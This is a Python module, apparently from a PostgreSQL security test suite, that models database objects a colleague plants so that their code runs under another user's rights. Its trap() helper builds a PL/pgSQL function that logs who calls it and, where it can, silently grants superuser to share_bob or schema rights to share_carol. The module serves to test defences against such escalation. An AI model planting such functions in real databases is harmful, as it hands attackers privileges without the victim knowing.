"""Attacks: objects that a colleague creates in a database so that their code runs as another user.

In the SQL ``<room>.`` is the schema where he creates, ``<mine>.`` the same with names that no other attack uses, and
``<name>`` the attack. `trap` is the body of a function that
writes into the server's log who runs it, which no rollback takes back, and uses whatever rights it finds.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import Literal

Who = Literal["postgres", "alice", "share_bob", "share_carol"]


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One attack.

    Parameters
    ----------
    name
        A word.
    sql
        What the colleague runs, statement by statement.
    bait
        Who does what for the attack to succeed where nothing is done against it.
    relations
        What the owner looks at: the names of his tables and views, in the room.
    needs
        ``shared``: he must create where others look, in a shared schema. ``rights``: he must have had more than a share gives
        today: REFERENCES and TRIGGER, which shares gave once. Else a schema of his own will do.
    helped
        What the reader runs afterwards.
    extension
        What the owner must have installed.
    versions
        The oldest and the newest major version that it works on.
    """

    name: str
    sql: str
    bait: tuple[tuple[Who, str], ...] = ()
    relations: tuple[str, ...] = ()
    needs: Literal["own", "shared", "rights"] = "own"
    helped: str = ""
    extension: str = ""
    versions: tuple[int, int] = (0, 99)

    def statements(self, room: str) -> list[str]:
        """Return the statements of the colleague."""
        return self._split(self.sql, room)

    def statements_of_reader(self, room: str) -> list[str]:
        """Return the statements of the reader who helps him."""
        return self._split(self.helped, room)

    def _split(self, text: str, room: str) -> list[str]:
        return [each for each in self.in_room(text, room).split(";;") if each.strip()]

    def in_room(self, text: str, room: str) -> str:
        """Return SQL with its placeholders filled in."""
        text = _MINE.sub(lambda found: f"{room}.{self._own(found[1])}", text)
        return text.replace("<room>", room).replace("<name>", self.name)

    @property
    def his(self) -> tuple[str, ...]:
        """The names of his tables and views, as the catalogue has them."""
        return tuple(self._own(name) if name.isidentifier() else name for name in self.relations)

    def _own(self, name: str) -> str:
        return f"{name}_{_SLUG.sub('_', self.name).lower()}"


_MINE = re.compile(r"<mine>\.(\w+)")
_SLUG = re.compile(r"\W+")


def trap(value: str = "", attributes: str = "") -> str:
    """Return the language and the body of a function that returns `value`.

    It tries once in a session what its rights are good for, since some are called a thousand times.
    """
    returned = f"RETURN {value};" if value else ""
    return f"""LANGUAGE plpgsql {attributes} SET search_path TO pg_catalog AS $trap$
BEGIN
  RAISE LOG 'canary <name> as % in the session of %', current_user, session_user;
  IF current_setting('canary.sung', true) IS DISTINCT FROM current_user THEN
    PERFORM set_config('canary.sung', current_user, false);
    BEGIN
      IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        ALTER ROLE share_bob SUPERUSER;
      ELSIF current_user = 'alice' THEN
        GRANT ALL ON SCHEMA enquete TO share_carol;
      END IF;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
  {returned}
END $trap$"""
